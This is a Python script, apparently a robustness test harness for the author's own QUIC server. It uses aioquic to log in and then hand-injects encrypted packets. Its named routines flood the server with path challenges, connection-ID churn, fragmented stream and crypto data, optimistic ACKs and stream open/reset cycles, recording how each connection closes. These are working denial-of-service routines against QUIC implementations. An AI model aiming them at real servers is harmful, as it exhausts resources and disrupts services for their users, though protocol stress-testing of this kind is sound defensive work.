#!/usr/bin/env python3
"""Clients that log in and then use QUIC against the server, one connection and one JSON line for each attack.

    attack.py --server 127.0.0.1:4433 … --attack path_challenges --attack gaps

    {"attack": "gaps", "packets": 9, "code": 1, "reset": false, "frame_type": null, "reason": "…"}

The code is that of the CONNECTION_CLOSE, whose way may be full of what the attack asked for; then a stateless reset tells.

aioquic shakes hands and reads; what attacks is written by hand: packets with any frames under any number (`Attack.inject`).
Frames: RFC 9000 section 19.
"""

import argparse
import asyncio
import json
import os
import ssl
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.quic import events
from aioquic.quic.configuration import QuicConfiguration
from aioquic.tls import Epoch

import np_wire as np

PADDING, PING, ACK, RESET_STREAM, STOP_SENDING, CRYPTO, STREAM = 0, 1, 2, 4, 5, 6, 8
MAX_DATA, NEW_CONNECTION_ID, RETIRE_CONNECTION_ID, PATH_CHALLENGE, PATH_RESPONSE = 0x10, 0x18, 0x19, 0x1A, 0x1B
OFFSET, LENGTH, FIN = 4, 2, 1

# What fits a datagram of 1,200 bytes beside a header with a connection id of 17 octets and the tag.
PAYLOAD = 1150
# After so much an attack has not been noticed.
PACKETS_MAX = 20_000
# Packets written before the server gets a chance to answer.
BURST = 32

v = np.quic_varint


def stream(id: int, offset: int, data: bytes, fin: bool = False) -> bytes:
    return v(STREAM | OFFSET | LENGTH | (FIN if fin else 0)) + v(id) + v(offset) + v(len(data)) + data


class Attack(QuicConnectionProtocol):
    """A connection that is logged in."""

    def __init__(self, *args, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.decoder = np.Decoder()
        self.welcomed = asyncio.Event()
        self.packets = 0
        self.reset = False

    def datagram_received(self, data, addr) -> None:
        # aioquic does not look for resets.
        self.reset |= data[-16:] == self._quic._peer_cid.stateless_reset_token
        super().datagram_received(data, addr)

    def quic_event_received(self, event: events.QuicEvent) -> None:
        if isinstance(event, events.StreamDataReceived) and event.stream_id == 0:
            for frame in self.decoder.feed(event.data):
                if frame.kind == np.WELCOME:
                    self.welcomed.set()

    @property
    def is_over(self) -> bool:
        """aioquic raises its event only when nothing more can come, which is later."""
        return self.reset or self._quic._close_event is not None

    async def login(self, args: argparse.Namespace, device: str) -> None:
        hello = [(1, args.app), (2, args.user), (4, device), (5, 7), (7, "attack.py"), (3, args.usersig)]
        frame = np.Frame(np.CONTROL, np.HELLO, 0, np.encode(hello))
        self._quic.send_stream_data(self._quic.get_next_available_stream_id(), frame.encode())
        self.transmit()
        await asyncio.wait_for(self.welcomed.wait(), 30)

    def inject(self, payload: bytes) -> None:
        """Sends a packet of 1-RTT with these frames, past everything that aioquic would say to it."""
        quic = self._quic
        crypto = quic._cryptos[Epoch.ONE_RTT]
        number = quic._packet_number
        quic._packet_number += 1
        first = 0x40 | crypto.key_phase << 2 | 1
        header = bytes([first]) + quic._peer_cid.cid + (number & 0xFFFF).to_bytes(2, "big")
        # Enough for the sample of the header's protection.
        payload += bytes(max(0, 4 - len(payload)))
        self._transport.sendto(crypto.encrypt_packet(header, payload, number), quic._network_paths[0].addr)
        self.packets += 1

    async def flood(self, frame) -> None:
        """Sends what `frame(n)` makes, as much as fits a packet, until the server has enough."""
        n = 0
        while not self.is_over and self.packets < PACKETS_MAX:
            payload = b""
            while len(payload) + len(next_frame := frame(n)) <= PAYLOAD:
                payload += next_frame
                n += 1
            self.inject(payload)
            if self.packets % BURST == 0:
                await self.read()
        await self.settle()

    async def read(self) -> None:
        """Reads as much as the server may have answered: the loop takes one datagram at a time."""
        for _ in range(2 * BURST):
            await asyncio.sleep(0)

    async def settle(self) -> None:
        """Until the server has closed, which it may do for what was sent last, or has not for seconds."""
        for _ in range(100):
            if not self.is_over:
                await asyncio.sleep(0.05)


async def path_challenges(attack: Attack) -> None:
    await attack.flood(lambda n: v(PATH_CHALLENGE) + n.to_bytes(8, "big"))


async def path_responses(attack: Attack) -> None:
    await attack.flood(lambda n: v(PATH_RESPONSE) + n.to_bytes(8, "big"))


async def new_ids(attack: Attack) -> None:
    """Each takes the place of all before, so that the server has one to retire for each: more than it wants to keep."""
    await attack.flood(
        lambda n: v(NEW_CONNECTION_ID) + v(8 + n) + v(8 + n) + b"\x08" + n.to_bytes(8, "big") + os.urandom(16)
    )


async def repeated_ids(attack: Attack) -> None:
    """One id over and over again, as if it had been lost."""
    id = next(known for known in attack._quic._host_cids if known.sequence_number == 5)
    frame = v(NEW_CONNECTION_ID) + v(5) + v(0) + v(len(id.cid)) + id.cid + id.stateless_reset_token
    await attack.flood(lambda n: frame)


async def too_many_ids(attack: Attack) -> None:
    """As many as are offered, and none retired."""
    for n in range(8, 80):
        attack.inject(v(NEW_CONNECTION_ID) + v(n) + v(0) + b"\x08" + n.to_bytes(8, "big") + os.urandom(16))
    await attack.settle()


async def retired_ids(attack: Attack) -> None:
    """Gives back every id of the server as soon as it comes, so that it makes others."""
    while not attack.is_over and attack.packets < PACKETS_MAX:
        quic = attack._quic
        while quic._peer_cid_available:
            quic.change_connection_id()
            attack.inject(v(RETIRE_CONNECTION_ID) + v(quic._retire_connection_ids.pop(0)))
        await asyncio.sleep(0.001)


async def unknown_id_retired(attack: Attack) -> None:
    attack.inject(v(RETIRE_CONNECTION_ID) + v(1000))
    await attack.settle()


async def gaps(attack: Attack) -> None:
    """Every other byte of a stream, until the server holds more pieces than it wants to."""
    await attack.flood(lambda n: stream(4, 1 + 2 * n, b"x"))


async def gaps_again(attack: Attack) -> None:
    """As many pieces as the server holds, over and over again."""
    await attack.flood(lambda n: stream(4, 1 + 2 * (n % 900), b"x"))


async def crypto_gaps(attack: Attack) -> None:
    """As `gaps`, in a handshake that is over."""
    await attack.flood(lambda n: v(CRYPTO) + v(2**20 + 2 * n) + v(1) + b"x")


async def optimistic_acks(attack: Attack) -> None:
    """Acknowledges a thousand packets that the server has not sent yet."""
    attack.inject(v(ACK) + v(100_000) + v(0) + v(0) + v(1_000))
    await attack.settle()


async def acks(attack: Attack) -> None:
    """Acknowledges the first packet of the server, and nothing else, over and over again."""
    await attack.flood(lambda n: v(ACK) + v(0) + v(0) + v(0) + v(0))


async def pings(attack: Attack) -> None:
    await attack.flood(lambda n: v(PING))


async def windows(attack: Attack) -> None:
    await attack.flood(lambda n: v(MAX_DATA) + v(2**20 + n))


async def many_streams(attack: Attack) -> None:
    attack.inject(stream(4 * 50, 0, b"x"))
    await attack.settle()


async def beyond_the_window(attack: Attack) -> None:
    attack.inject(stream(4, 2**21, b"x"))
    await attack.settle()


async def open_and(attack: Attack, frames) -> None:
    """Opens streams and is done with them, as fast as the server allows new ones."""
    id = 4
    while not attack.is_over and attack.packets < PACKETS_MAX:
        limit = attack._quic._remote_max_streams_bidi
        payload = b""
        while id // 4 < limit:
            # For aioquic, which is to know that the server may answer on it.
            attack._quic._get_or_create_stream_for_send(id)
            payload += frames(id)
            id += 4
        if payload:
            attack.inject(payload)
        await asyncio.sleep(0.001)


async def open_and_reset(attack: Attack) -> None:
    await open_and(
        attack,
        lambda id: stream(id, 0, b"x") + v(RESET_STREAM) + v(id) + v(0) + v(1) + v(STOP_SENDING) + v(id) + v(0),
    )


async def open_and_end(attack: Attack) -> None:
    """No frame that complains: a stream that opens and ends without a byte."""
    await open_and(attack, lambda id: stream(id, 0, b"", fin=True))


async def one(args: argparse.Namespace, name: str) -> None:
    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=["np/1"], server_name=args.server_name, idle_timeout=60
    )
    configuration.load_verify_locations(args.ca)
    configuration.verify_mode = ssl.CERT_REQUIRED
    host, _, port = args.server.rpartition(":")
    async with connect(host, int(port), configuration=configuration, create_protocol=Attack) as attack:
        await attack.login(args, name)
        await globals()[name](attack)
        end = attack._quic._close_event
        told = {"attack": name, "packets": attack.packets, "code": None, "reset": attack.reset}
        if end is not None:
            told |= {"code": end.error_code, "frame_type": end.frame_type, "reason": end.reason_phrase}
        print(json.dumps(told), flush=True)
        if end is None:
            attack.close()


async def main() -> None:
    parser = argparse.ArgumentParser()
    for flag in ("server", "server-name", "ca", "user", "usersig"):
        parser.add_argument(f"--{flag}", required=True)
    parser.add_argument("--app", type=int, required=True)
    parser.add_argument("--attack", action="append", required=True)
    args = parser.parse_args()
    await asyncio.gather(*(one(args, name) for name in args.attack))


asyncio.run(main())
